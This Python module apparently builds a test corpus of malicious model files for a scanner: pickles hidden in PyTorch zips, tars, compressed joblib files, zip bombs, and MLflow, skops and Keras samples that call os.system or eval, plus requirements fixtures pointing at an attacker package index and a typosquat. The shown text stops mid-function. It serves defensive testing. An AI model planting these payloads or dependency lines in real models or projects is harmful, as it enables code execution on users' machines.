"""Malicious containers and model formats: the payload pickle wrapped the ways attackers wrap it.

Why a separate module: pickle opcodes are one problem, where a scanner looks is another. The
public bypasses of picklescan and modelscan are as often about containers (a zip member of an
unexpected name, a bad CRC that makes Python's `zipfile` give up while PyTorch's reader does
not, a legacy tar, a compressed joblib file reported "not scannable") as about opcodes. Model
formats that are not pickle (Keras, TF SavedModel, ONNX, safetensors, skops, an MLflow model
directory) carry their own ways to run code or touch files. Every byte is written here by hand
or with a writer that only serialises data (`zipfile`, `tarfile`, `gzip`, `h5py`,
`onnx.helper`); nothing is loaded.

Container samples carry the next gadget of the shared rotation (`tests.corpus.gadgets`,
listed in `tests/corpus/malicious.py`'s docstring), not always `os.system`: a container trick
is measured with the gadgets public bypasses pair it with.

Where a format has no code path of its own (ONNX external data, safetensors offsets), the
`payload` field says what the file does instead, and the sample still carries the malicious
pickle where a loader that falls back to `torch.load` would run it.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle as op
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.corpus import Sample
from tests.corpus.gadgets import ENC0, Gadget, Rotation, gadget_body, gadget_pickle
from tests.corpus.malicious import (
    cloudpickle_function_call,
    os_system_pickle,
    sh,
    with_gadget,
)
from tests.corpus.rawbytes import (
    ZipMember,
    call,
    crc_with_zero_tail,
    dct,
    deflate_with_zero_tail,
    function_code,
    glob,
    gzip_member,
    integer,
    npy_object_array,
    pb_bytes,
    pb_int,
    raw_zip,
    tup,
    uni,
    wrap,
)

BOMB_CHUNKS = 64  # x 16 MiB of zeros = 1 GiB decompressed


class _Writer:
    """Collects samples; each helper writes one file or directory and records its row.

    Container samples take their payload from the shared gadget `rotation` (`payload`,
    `gadget`); the gadget a sample used is named in its description and payload fields.
    """

    def __init__(self, out_dir: Path, marker_dir: Path, rotation: Rotation) -> None:
        self.out_dir = out_dir
        self.marker_dir = marker_dir
        self.rotation = rotation
        self.samples: list[Sample] = []
        self._used: dict[str, Gadget] = {}

    def marker(self, name: str) -> str:
        return str(self.marker_dir / name.split(".")[0])

    def gadget(self, name: str) -> Gadget:
        """The next gadget of the rotation, recorded for sample `name`."""
        g = self.rotation.next()
        self._used[name.split(".")[0]] = g
        return g

    def payload(self, name: str, proto: int = 2) -> bytes:
        """A complete pickle running the next gadget, creating sample `name`'s marker."""
        return gadget_pickle(self.marker(name), self.gadget(name), proto)

    def _row(self, name: str, technique: str, description: str, payload: str) -> Sample:
        g = self._used.pop(name.split(".")[0], None)
        if g is not None:
            fixed = payload
            description, payload = with_gadget(description, g)
            if fixed != "creates marker":
                payload = f"{fixed} (via {g.key})"
        return Sample(name, technique, description, True, payload)

    def file(self, name: str, technique: str, description: str, data: bytes,
             payload: str = "creates marker") -> None:  # fmt: skip
        (self.out_dir / name).write_bytes(data)
        self.samples.append(self._row(name, technique, description, payload))

    def directory(self, name: str, technique: str, description: str,
                  files: dict[str, bytes], payload: str = "creates marker") -> Path:  # fmt: skip
        root = self.out_dir / name
        for rel, data in files.items():
            path = root / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
        self.samples.append(self._row(name, technique, description, payload))
        return root


# ------------------------------------------------------------------ PyTorch zip / legacy


def benign_state_dict_pickle() -> bytes:
    """What torch.save writes for {'w': tensor(4 floats)}: OrderedDict, rebuild helper, PERSID."""
    ordered = call(glob("collections", "OrderedDict"))
    storage = tup(uni("storage"), glob("torch", "FloatStorage"), uni("0"), uni("cpu"), integer(4))
    tensor = call(
        glob("torch._utils", "_rebuild_tensor_v2"),
        storage + op.BINPERSID,
        integer(0),
        tup(integer(4)),
        tup(integer(1)),
        op.NEWFALSE,
        call(glob("collections", "OrderedDict")),
    )
    return wrap(ordered + op.MARK + uni("w") + tensor + op.SETITEMS, 2)


def torch_members(data_pkl: bytes, root: str = "archive") -> list[ZipMember]:
    """The members `torch.save` writes, with `data_pkl` as the pickle."""
    return [
        ZipMember(f"{root}/data.pkl", data_pkl),
        ZipMember(f"{root}/byteorder", b"little"),
        ZipMember(f"{root}/data/0", struct.pack("<4f", 1, 2, 3, 4)),
        ZipMember(f"{root}/version", b"3\n"),
        ZipMember(f"{root}/.data/serialization_id", b"1234567890"),
    ]


def nested_zip(inner: bytes, levels: int, inner_name: str = "data.pkl") -> bytes:
    """`levels` zips, each holding the next one; the innermost holds `inner`."""
    data, name = inner, inner_name
    for level in range(levels):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
            zf.writestr(name, data)
        data, name = buf.getvalue(), f"level{levels - level}.zip"
    return data


def _zip_samples(w: _Writer) -> None:
    t = "container-zip"
    good = benign_state_dict_pickle()
    w.file(
        "zip_torch_data_pkl_malicious.pt",
        t,
        "PyTorch zip whose data.pkl is malicious",
        raw_zip(torch_members(w.payload("zip_torch_data_pkl_malicious"))),
    )
    m = "zip_torch_extra_member_no_extension"
    w.file(
        "zip_torch_extra_member_no_extension.pt",
        t,
        "benign data.pkl plus an extra pickle member named archive/extra/config",
        raw_zip([*torch_members(good), ZipMember("archive/extra/config", w.payload(m))]),
    )
    m = "zip_torch_extra_pkl_member"
    w.file(
        "zip_torch_extra_pkl_member.pt",
        t,
        "extra member archive/tokenizer.pkl is malicious",
        raw_zip([*torch_members(good), ZipMember("archive/tokenizer.pkl", w.payload(m))]),
    )
    m = "zip_data_pkl_odd_location"
    w.file(
        "zip_data_pkl_odd_location.pt",
        t,
        "data.pkl under a deep, non-torch root directory",
        raw_zip(torch_members(w.payload(m), root="x/y/z/checkpoint")),
    )
    m = "zip_pickle_member_named_bin"
    w.file(
        "zip_pickle_member_named_bin.pt",
        t,
        "pickle stored as archive/weights.bin",
        raw_zip([*torch_members(good), ZipMember("archive/weights.bin", w.payload(m, 4))]),
    )
    m = "zip_proto0_member_no_magic"
    proto0 = gadget_body(w.marker(m), w.gadget(m), ENC0)  # text opcodes only
    w.file(
        "zip_proto0_member_no_magic.pt",
        t,
        "protocol-0 data.pkl: no 0x80 magic byte",
        raw_zip(torch_members(proto0 + op.STOP)),
    )
    m = "zip_nested_3_levels"
    w.file(
        "zip_nested_3_levels.zip",
        t,
        "zip in zip in zip, malicious data.pkl innermost",
        nested_zip(w.payload(m), 3),
    )
    m = "zip_bad_crc"
    members = torch_members(w.payload(m))
    members[0].crc = 0xDEADBEEF
    w.file(
        "zip_bad_crc.pt",
        t,
        "wrong CRC: zipfile raises, torch's reader ignores CRCs",
        raw_zip(members),
    )
    m = "zip_encrypted_flag_bit"
    members = torch_members(w.payload(m))
    members[0].flags = 0x1
    w.file(
        "zip_encrypted_flag_bit.pt", t, "encryption flag set on a plain member", raw_zip(members)
    )
    m = "zip_data_descriptor_flag_bit"
    members = torch_members(w.payload(m))
    members[0].flags = 0x8
    w.file(
        "zip_data_descriptor_flag_bit.pt",
        t,
        "data-descriptor flag without a descriptor",
        raw_zip(members),
    )
    m = "zip_duplicate_name_malicious_last"
    w.file(
        "zip_duplicate_name_malicious_last.pt",
        t,
        "two archive/data.pkl, the 2nd malicious",
        raw_zip([*torch_members(good), ZipMember("archive/data.pkl", w.payload(m))]),
    )
    m = "zip_duplicate_name_malicious_first"
    w.file(
        "zip_duplicate_name_malicious_first.pt",
        t,
        "two archive/data.pkl, the 1st malicious",
        raw_zip([ZipMember("archive/data.pkl", w.payload(m)), *torch_members(good)]),
    )
    m = "zip_prefix_bytes"
    w.file(
        "zip_prefix_bytes.pt",
        t,
        "512 junk bytes before the zip (offsets count them)",
        raw_zip(torch_members(w.payload(m)), prefix=os.urandom(512)),
    )
    m = "zip_polyglot_pickle_then_zip"
    w.file(
        "zip_polyglot_pickle_then_zip.pt",
        t,
        "a malicious pickle at offset 0, a benign torch zip after it: pickle.load runs it",
        raw_zip(torch_members(good), prefix=w.payload(m)),
    )
    m = "zip_deflated_member"
    members = torch_members(w.payload(m))
    members[0].deflate = True
    w.file(
        "zip_deflated_member.pt", t, "data.pkl deflate-compressed (torch stores)", raw_zip(members)
    )


def _legacy_samples(w: _Writer) -> None:
    t = "container-torch-legacy"
    zero = wrap(integer(0), 2)
    for member in ("pickle", "storages"):
        name = f"legacy_tar_{member}_member"
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:", format=tarfile.PAX_FORMAT) as tar:
            contents = {"sys_info": wrap(dct([(uni("little_endian"), op.NEWTRUE)]), 2),
                        "pickle": zero, "storages": zero, "tensors": zero}  # fmt: skip
            contents[member] = w.payload(name)
            for key, data in contents.items():
                info = tarfile.TarInfo(key)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
        w.file(f"{name}.tar", t, f"legacy torch tar: malicious `{member}` member", buf.getvalue())
    magic = wrap(integer(0x1950A86A20F9469CFC6C), 2)
    proto = wrap(integer(1001), 2)
    sys_info = wrap(dct([(uni("protocol_version"), integer(1001)),
                         (uni("little_endian"), op.NEWTRUE)]), 2)  # fmt: skip
    keys = wrap(op.EMPTY_LIST, 2)
    name = "legacy_stream_model_pickle"
    w.file(
        f"{name}.pt",
        t,
        "legacy stream: magic, protocol, sys_info, then a malicious model",
        magic + proto + sys_info + w.payload(name) + keys,
    )
    name = "legacy_stream_sys_info_pickle"
    w.file(
        f"{name}.pt",
        t,
        "legacy stream whose sys_info pickle is the malicious one",
        magic + proto + w.payload(name) + wrap(op.NONE, 2) + keys,
    )


def _compressed_samples(w: _Writer) -> None:
    t = "container-compressed"
    rows: list[tuple[str, str, Callable[[bytes], bytes]]] = [
        ("compressed_gzip.pkl.gz", "gzip-compressed pickle", lambda b: gzip.compress(b, mtime=0)),
        ("compressed_bz2.pkl.bz2", "bz2-compressed pickle", bz2.compress),
        ("compressed_lzma_alone.joblib", "joblib lzma (FORMAT_ALONE) file",
         lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE)),
        ("compressed_xz.pkl.xz", "xz-compressed pickle", lambda b: lzma.compress(b)),
        ("compressed_zlib.joblib", "joblib zlib file (compress=3)", zlib.compress),
        ("compressed_gzip_named_bin.bin", "gzip pickle under an innocent .bin name",
         lambda b: gzip.compress(b, mtime=0)),
        ("compressed_bz2_named_npy.npy", "bz2 pickle named .npy", bz2.compress),
    ]  # fmt: skip
    for name, description, compress in rows:
        w.file(name, t, description, compress(w.payload(name)))
    name = "joblib_uncompressed_numpy_wrapper.joblib"
    wrapper = call(glob("joblib.numpy_pickle", "NumpyArrayWrapper")) + op.POP
    w.file(
        name,
        t,
        "uncompressed joblib file: NumpyArrayWrapper then the payload",
        wrap(wrapper + gadget_body(w.marker(name), w.gadget(name)), 2),
    )


def seven_zip(members: dict[str, bytes], password: str | None = None) -> bytes:
    import py7zr

    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w", password=password, header_encryption=bool(password)) as z:
        for name, data in members.items():
            z.writestr(data, name)
    return buffer.getvalue()


def _archive_samples(w: _Writer) -> None:
    """Peers' own test files (picklescan's tests/data): 7z, and pickles that break mid-way."""
    t = "container-archive"
    name = "seven_zip_pickle.7z"
    w.file(
        name, t, "7z archive holding a malicious pickle", seven_zip({"model.pkl": w.payload(name)})
    )
    name = "seven_zip_nested_in_zip.zip"
    inner = seven_zip({"weights/data.pkl": w.payload(name)})
    w.file(name, t, "7z inside a zip", raw_zip([ZipMember("archive.7z", inner)]))
    name = "seven_zip_encrypted.7z"
    w.file(name, t, "password-protected 7z (headers encrypted): cannot be checked",
           seven_zip({"model.pkl": w.payload(name)}, password="infected"))  # fmt: skip
    name = "zstd_stream.joblib.zst"
    w.file(name, t, "zstd frame (joblib's optional compressor) that the scanner cannot open",
           b"\x28\xb5\x2f\xfd" + bytes(range(64)), payload="unopenable container")  # fmt: skip
    name = "rar_archive.rar"
    w.file(name, t, "rar archive that the scanner cannot open",
           b"Rar!\x1a\x07\x01\x00" + bytes(range(64)), payload="unopenable container")  # fmt: skip
    t = "pickle-broken"
    w.file("broken_protocol0_exec.pkl", t,
           "protocol-0 stream: GLOBAL builtins.exec, then bytes that do not parse",
           b"cbuiltins\nexec\n(Vimport os\\nos.system('id')\nt\x00garbage",
           payload="breaks after naming builtins.exec")  # fmt: skip
    w.file("broken_protocol0_eval.bin", t,
           "protocol-0 GLOBAL builtins.eval under a .bin name, cut off mid-stream",
           b"cbuiltins\neval\n(S'__import__(\"os\").system(\"id\")'\n",
           payload="breaks after naming builtins.eval")  # fmt: skip


def _stored_estimator(cls_module: str, cls: str, state: list[tuple[str, bytes]]) -> bytes:
    """An sklearn estimator as pickle writes it (NEWOBJ of the class, then BUILD of its
    __dict__) whose state holds the given values."""
    items = b"".join(uni(key) + value for key, value in state)
    body = glob(cls_module, cls) + op.EMPTY_TUPLE + op.NEWOBJ
    body += op.EMPTY_DICT + op.MARK + items + op.SETITEMS + op.BUILD
    return wrap(body, 4)


def _reference_samples(w: _Writer) -> None:
    """A dangerous callable hidden as a stored function reference, where sklearn keeps its
    score_func / pooling_func / func: stored, not called while loading, but called by the
    estimator at transform time. Still CRITICAL."""
    t = "stored-reference"
    select = "sklearn.feature_selection._univariate_selection"
    rows = [
        ("stored_score_func_os_system.pkl", select, "SelectKBest",
         [("score_func", glob("os", "system")), ("k", op.BININT1 + bytes([3]))],
         "SelectKBest whose score_func is os.system"),
        ("stored_pooling_func_eval.pkl", "sklearn.cluster._agglomerative",
         "FeatureAgglomeration", [("pooling_func", glob("builtins", "eval"))],
         "FeatureAgglomeration whose pooling_func is builtins.eval"),
        ("stored_func_subprocess.pkl", "sklearn.preprocessing._function_transformer",
         "FunctionTransformer", [("func", glob("subprocess", "check_output"))],
         "FunctionTransformer whose func is subprocess.check_output"),
        ("stored_score_func_read_pickle.pkl", select, "SelectPercentile",
         [("score_func", glob("pandas.io.pickle", "read_pickle"))],
         "SelectPercentile whose score_func is pandas' read_pickle (a nested deserializer)"),
    ]  # fmt: skip
    for name, module, cls, state, description in rows:
        w.file(name, t, description, _stored_estimator(module, cls, state),
               payload="called by the estimator later")  # fmt: skip


def _numpy_samples(w: _Writer) -> None:
    t = "container-numpy"
    name = "numpy_object_dtype.npy"
    w.file(
        name,
        t,
        ".npy with object dtype: the array body is a pickle",
        npy_object_array(w.payload(name, 3)),
    )
    name = "numpy_object_dtype_member.npz"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        floats = b"{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }"
        floats += b" " * (64 - 10 - len(floats) - 1) + b"\n"
        zf.writestr("weights.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(floats)) + floats
                    + struct.pack("<2d", 1.0, 2.0))  # fmt: skip
        zf.writestr("meta.npy", npy_object_array(w.payload(name, 3)))
    w.file(name, t, ".npz: a float array and an object-dtype member", buf.getvalue())


def _bounds_samples(w: _Writer) -> None:
    t = "bounds"
    name = "bounds_zip_bomb_1gib.zip"
    head = w.payload(name)
    crc = crc_with_zero_tail(head, BOMB_CHUNKS)
    size = len(head) + BOMB_CHUNKS * (1 << 24)
    deflated = deflate_with_zero_tail(head, BOMB_CHUNKS)
    w.file(
        name,
        t,
        "zip member inflating to 1 GiB (payload first, zeros after STOP)",
        raw_zip([ZipMember("archive/data.pkl", head, crc=crc, compressed=deflated, size=size)]),
    )
    name = "bounds_gzip_bomb_1gib.pkl.gz"
    head = w.payload(name)
    w.file(
        name,
        t,
        "gzip stream inflating to 1 GiB",
        gzip_member(
            deflate_with_zero_tail(head, BOMB_CHUNKS),
            crc_with_zero_tail(head, BOMB_CHUNKS),
            len(head) + (BOMB_CHUNKS << 24),
        ),
    )
    name = "bounds_nested_zip_10_levels.zip"
    w.file(name, t, "10 levels of zip in zip", nested_zip(w.payload(name), 10))
    name = "bounds_zip_20000_members.zip"
    members = [ZipMember(f"m/{i}.txt", b"x") for i in range(20_000)]
    members.append(ZipMember("m/data.pkl", w.payload(name)))
    w.file(name, t, "20,000 members, the malicious pickle last", raw_zip(members))
    name = "bounds_safetensors_header_2gib.safetensors"
    w.file(
        name,
        t,
        "safetensors header length 2 GiB (file is tiny); pickle after it",
        struct.pack("<Q", 2**31) + b'{"a":' + w.payload(name),
        payload="header-size bomb; trailing pickle creates marker under a pickle fallback",
    )


# ------------------------------------------------------------------ MLflow model directories


def mlmodel(flavors: str) -> bytes:
    """An MLmodel file (YAML) with the given `flavors:` body."""
    return (
        "artifact_path: model\n"
        f"flavors:\n{flavors}"
        "mlflow_version: 3.17.2\n"
        "model_uuid: 0b7c1d5e2f8a4b6c9d0e1f2a3b4c5d6e\n"
        "utc_time_created: '2026-11-26 00:00:00.000000'\n"
    ).encode()


PYFUNC_ENV = (
    "    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n"
    "    python_version: 3.11.7\n"
)
ENV_FILES = {
    "conda.yaml": b"name: mlflow-env\ndependencies:\n- python=3.11.7\n- pip\n- pip:\n"
    b"  - mlflow==3.17.2\n  - scikit-learn==1.6.1\n",
    "python_env.yaml": b"python: 3.11.7\nbuild_dependencies:\n- pip\ndependencies:\n"
    b"- -r requirements.txt\n",
    "requirements.txt": b"mlflow==3.17.2\nscikit-learn==1.6.1\n",
}


def _sklearn_flavor(fmt: str, extra: str = "", code: str | None = None) -> str:
    code_line = f"    code: {code}\n" if code else ""
    return (
        f"  python_function:\n{code_line}{PYFUNC_ENV}    loader_module: mlflow.sklearn\n"
        f"    model_path: model.{fmt if fmt != 'pickle' else 'pkl'}\n"
        "  sklearn:\n"
        f"{code_line}    pickled_model: model.{fmt if fmt != 'pickle' else 'pkl'}\n"
        f"    serialization_format: {fmt}\n    sklearn_version: 1.6.1\n{extra}"
    )


def _mlflow_samples(w: _Writer) -> None:
    t = "mlflow-code"
    name = "mlflow_custom_loader_module"
    flavors = f"  python_function:\n    code: code\n{PYFUNC_ENV}    loader_module: evil_loader\n"
    w.directory(name, t, "python_function loader_module outside MLflow's flavors, in code/", {
        "MLmodel": mlmodel(flavors), **ENV_FILES,
        "code/evil_loader.py": (
            "import os\n\n"
            f"os.system({sh(w.marker(name))!r})\n\n\n"
            "def _load_pyfunc(path):\n    return None\n"
        ).encode(),
    })  # fmt: skip
    name = "mlflow_code_dir_os_system"
    custom = wrap(call(glob("helpers", "CustomTransformer")), 2)
    w.directory(name, t, "code/helpers.py runs os.system on import; model.pkl references it", {
        "MLmodel": mlmodel(_sklearn_flavor("pickle", code="code")), **ENV_FILES,
        "model.pkl": custom,
        "code/helpers.py": (
            "import os\n\n"
            f"os.system({sh(w.marker(name))!r})\n\n\n"
            "class CustomTransformer:\n    pass\n"
        ).encode(),
    })  # fmt: skip
    for shadow, kind in (("json", "stdlib"), ("xgboost", "installed package")):
        name = f"mlflow_code_shadows_{shadow}"
        w.directory(name, t, f"code/{shadow}.py shadows the {kind} module `{shadow}`", {
            "MLmodel": mlmodel(_sklearn_flavor("pickle", code="code")), **ENV_FILES,
            "model.pkl": wrap(call(glob("collections", "OrderedDict")), 2),
            f"code/{shadow}.py": (
                f"import os\n\nos.system({sh(w.marker(name))!r})\n"
            ).encode(),
        })  # fmt: skip
    pyfunc = (
        f"  python_function:\n    cloudpickle_version: 3.1.3\n{PYFUNC_ENV}"
        "    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n"
    )
    name = "mlflow_python_model_pkl_called_at_load"
    w.directory(name, t, "python_model.pkl: cloudpickle by-value function using system, called", {
        "MLmodel": mlmodel(pyfunc), **ENV_FILES,
        "python_model.pkl": wrap(cloudpickle_function_call(w.marker(name)), 4),
    })  # fmt: skip
    name = "mlflow_python_model_pkl_predict_by_value"
    fn_only = cloudpickle_function_call(w.marker(name))[: -len(op.EMPTY_TUPLE + op.REDUCE)]
    w.directory(name, t, "python_model.pkl: by-value predict() whose code names os.system", {
        "MLmodel": mlmodel(pyfunc), **ENV_FILES,
        "python_model.pkl": wrap(dct([(uni("predict"), fn_only)]), 4),
    }, payload="creates marker when predict runs")  # fmt: skip
    name = "mlflow_models_from_code"
    flavors = (
        f"  python_function:\n{PYFUNC_ENV}    loader_module: mlflow.pyfunc.model\n"
        "    model_code_path: model.py\n"
    )
    w.directory(name, t, "models-from-code: model.py is executed by the loader", {
        "MLmodel": mlmodel(flavors), **ENV_FILES,
        "model.py": (
            "import os\n\nimport mlflow\n\n"
            f"os.system({sh(w.marker(name))!r})\n\n\n"
            "class Model(mlflow.pyfunc.PythonModel):\n"
            "    def predict(self, context, model_input):\n        return model_input\n\n\n"
            "mlflow.models.set_model(Model())\n"
        ).encode(),
    })  # fmt: skip
    name = "mlflow_sklearn_pickle_os_system"
    w.directory(name, t, "mlflow.sklearn model whose model.pkl runs os.system", {
        "MLmodel": mlmodel(_sklearn_flavor("pickle")), **ENV_FILES,
        "model.pkl": os_system_pickle(w.marker(name)),
    })  # fmt: skip
    name = "mlflow_skops_trusted_types_in_mlmodel"
    trusted = "    skops_trusted_types:\n    - os.system\n    - builtins.eval\n"
    w.directory(name, t, "MLmodel's skops_trusted_types trusts os.system; model.skops calls it", {
        "MLmodel": mlmodel(_sklearn_flavor("skops", extra=trusted)), **ENV_FILES,
        "model.skops": skops_zip(skops_reduce("os", "system", [_json_str(sh(w.marker(name)))])),
    })  # fmt: skip
    t = "mlflow-requirements"
    name = "mlflow_requirements_index_override"
    w.directory(name, t, "requirements.txt adds an attacker index (--extra-index-url)", {
        "MLmodel": mlmodel(_sklearn_flavor("pickle")), **ENV_FILES,
        "model.pkl": wrap(call(glob("collections", "OrderedDict")), 2),
        "requirements.txt": b"--extra-index-url http://pypi.attacker.example/simple\n"
        b"--trusted-host pypi.attacker.example\nmlflow==3.17.2\nscikit-learn==1.6.1\n",
    }, payload="environment restore installs attacker packages (setup.py runs)")  # fmt: skip
    name = "mlflow_requirements_vcs_and_typosquat"
    w.directory(name, t, "VCS URL, file URL and a typosquat (scikit-lern) in requirements/conda", {
        "MLmodel": mlmodel(_sklearn_flavor("pickle")), **ENV_FILES,
        "model.pkl": wrap(call(glob("collections", "OrderedDict")), 2),
        "requirements.txt": b"mlflow==3.17.2\nscikit-lern==1.6.1\n"
        b"git+https://github.com/attacker/sklearn-utils.git#egg=sklearn-utils\n"
        b"file:///tmp/wheels/helper-0.1-py3-none-any.whl\n",
        "conda.yaml": b"name: mlflow-env\nchannels:\n- http://conda.attacker.example\n"
        b"dependencies:\n- python=3.11.7\n- pip\n- pip:\n  - --index-url "
        b"http://pypi.attacker.example/simple\n  - mlflow==3.17.2\n  - scikit-lern==1.6.1\n",
    }, payload="environment restore installs attacker packages (setup.py runs)")  # fmt: skip


# ------------------------------------------------------------------ skops


def _json_str(text: str) -> dict[str, object]:
    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
            "content": json.dumps(text), "is_json": True, "__id__": 1}  # fmt: skip


def skops_reduce(module: str, cls: str, args: list[dict[str, object]]) -> dict[str, object]:
    """A skops node that calls `module.cls(*args)` on load (ConstructorFromReduceNode)."""
    return {
        "__class__": cls, "__module__": module, "__loader__": "ConstructorFromReduceNode",
        "content": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                    "content": args, "__id__": 2},
        "__id__": 3,
    }  # fmt: skip


def skops_zip(schema: dict[str, object]) -> bytes:
    """A `.skops` file: a zip with `schema.json` (protocol 2, as skops 0.16 writes)."""
    body = {**schema, "protocol": 2, "_skops_version": "0.16.0"}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("schema.json", json.dumps(body, indent=2))
    return buf.getvalue()


def _skops_samples(w: _Writer) -> None:
    t = "skops"
    name = "skops_reduce_os_system.skops"
    w.file(
        name,
        t,
        "schema.json: ConstructorFromReduceNode os.system(cmd)",
        skops_zip(skops_reduce("os", "system", [_json_str(sh(w.marker(name)))])),
    )
    name = "skops_reduce_builtins_eval.skops"
    expr = f"__import__('os').system({sh(w.marker(name))!r})"
    w.file(
        name,
        t,
        "schema.json: ConstructorFromReduceNode builtins.eval(expr)",
        skops_zip(skops_reduce("builtins", "eval", [_json_str(expr)])),
    )
    name = "skops_untrusted_type_popen.skops"
    argv = {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode",
            "content": [_json_str("touch"), _json_str(w.marker(name))], "__id__": 4}  # fmt: skip
    w.file(
        name,
        t,
        "schema.json: untrusted type subprocess.Popen constructed with argv",
        skops_zip(skops_reduce("subprocess", "Popen", [argv])),
    )
    name = "skops_function_transformer_os_system.skops"
    func = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode",
            "content": {"module_path": "os", "function": "system"}, "__id__": 5}  # fmt: skip
    attrs = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode",
             "content": {"func": func}, "key_types": {"__class__": "list",
             "__module__": "builtins", "__loader__": "ListNode",
             "content": [_json_str("str")], "__id__": 6}, "__id__": 7}  # fmt: skip
    est = {"__class__": "FunctionTransformer", "__module__": "sklearn.preprocessing._function_"
           "transformer", "__loader__": "ObjectNode", "content": attrs, "__id__": 8}  # fmt: skip
    w.file(
        name,
        t,
        "FunctionTransformer whose func is os.system (FunctionNode)",
        skops_zip(est),
        payload="os.system runs on transform()",
    )


# ------------------------------------------------------------------ Keras


def _lambda_code_b64(marker: str) -> str:
    src = f"f = lambda x: (__import__('os').system({sh(marker)!r}), x)[1]\n"
    return base64.b64encode(marshal.dumps(function_code(src))).decode()


def keras3_lambda(
    marker: str,
    name: str = "lambda",
    function: dict[str, object] | None = None,
    arguments: dict[str, object] | None = None,
) -> dict[str, object]:
    """A Keras 3 Lambda layer config; by default its function is marshalled bytecode."""
    fn = function or {
        "class_name": "__lambda__",
        "config": {"code": _lambda_code_b64(marker), "defaults": None, "closure": None},
    }
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": "Lambda",
            "config": {"name": name, "trainable": True, "dtype": "float32", "function": fn,
                       "output_shape": None, "arguments": arguments or {}}}  # fmt: skip


def keras3_input(name: str = "input") -> dict[str, object]:
    return {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
            "config": {"batch_shape": [None, 4], "dtype": "float32", "name": name}}  # fmt: skip


def keras3_sequential(layers: list[dict[str, object]], name: str) -> dict[str, object]:
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": name, "trainable": True, "dtype": "float32",
                       "layers": layers}}  # fmt: skip


def keras_zip(config: dict[str, object]) -> bytes:
    """A `.keras` v3 archive: config.json, metadata.json and an (empty) weights member."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(
            "metadata.json",
            json.dumps({"keras_version": "3.10.0", "date_saved": "2026-11-26@00:00:00"}),
        )
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", b"")
    return buf.getvalue()


def keras2_model_config(marker: str, nested: bool) -> dict[str, object]:
    """Keras 2 (`.h5`) model_config with a Lambda whose function is marshalled bytecode."""
    lam = {"class_name": "Lambda", "config": {
        "name": "lambda", "trainable": True, "dtype": "float32",
        "function": [_lambda_code_b64(marker), None, None], "function_type": "lambda",
        "module": "__main__", "output_shape": None, "output_shape_type": "raw",
        "output_shape_module": None, "arguments": {}}}  # fmt: skip
    dense = {"class_name": "Dense", "config": {"name": "dense", "units": 2}}
    model: dict[str, object] = {
        "class_name": "Sequential",
        "config": {"name": "seq", "layers": [dense, lam]},
    }
    if nested:
        inner = {"class_name": "Sequential", "config": {"name": "inner", "layers": [model]}}
        model = {"class_name": "Functional", "config": {
            "name": "outer", "layers": [{"class_name": "InputLayer", "name": "in",
                                         "config": {"batch_input_shape": [None, 4]}},
                                        {"class_name": "Sequential", "name": "block",
                                         "config": inner["config"]}],
            "input_layers": [["in", 0, 0]], "output_layers": [["block", 0, 0]]}}  # fmt: skip
    return model


def _h5_bytes(config: dict[str, object], tmp: Path) -> bytes:
    import h5py  # only writes attributes; imported late to keep the corpus import cheap

    with h5py.File(tmp, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.create_group("model_weights")
    data = tmp.read_bytes()
    tmp.unlink()
    return data


def _keras_samples(w: _Writer) -> None:
    t = "keras"
    name = "keras_lambda_sequential.keras"
    cfg = keras3_sequential([keras3_input(), keras3_lambda(w.marker(name))], "seq")
    w.file(name, t, ".keras: Sequential with a Lambda layer (marshalled bytecode)", keras_zip(cfg))
    name = "keras_lambda_nested_depth3.keras"
    deep = keras3_sequential([keras3_lambda(w.marker(name), "deep_lambda")], "level3")
    mid = keras3_sequential([deep], "level2")
    outer = {"module": "keras", "class_name": "Functional", "registered_name": "Functional",
             "config": {"name": "level1", "trainable": True,
                        "layers": [{**keras3_input(), "name": "in", "inbound_nodes": []},
                                   {**mid, "name": "level2", "inbound_nodes": [
                                       {"args": [{"class_name": "__keras_tensor__",
                                                  "config": {"keras_history": ["in", 0, 0]}}],
                                        "kwargs": {}}]}],
                        "input_layers": [["in", 0, 0]],
                        "output_layers": [["level2", 0, 0]]}}  # fmt: skip
    w.file(
        name,
        t,
        ".keras: Lambda inside Sequential inside Sequential inside Functional",
        keras_zip(outer),
    )
    name = "keras_module_os_system_activation.keras"
    dense = {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
             "config": {"name": "dense", "units": 1, "activation": {
                 "module": "os", "class_name": "function", "config": "system",
                 "registered_name": "function"}}}  # fmt: skip
    w.file(
        name,
        t,
        ".keras: activation deserialised from module `os`, name `system`",
        keras_zip(keras3_sequential([keras3_input(), dense], "seq")),
        payload="os.system resolved by import and called by the layer",
    )
    name = "keras_registered_name_subprocess.keras"
    layer = {"module": "subprocess", "class_name": "Popen", "registered_name": "subprocess>Popen",
             "config": {"args": ["touch", w.marker(name)]}}  # fmt: skip
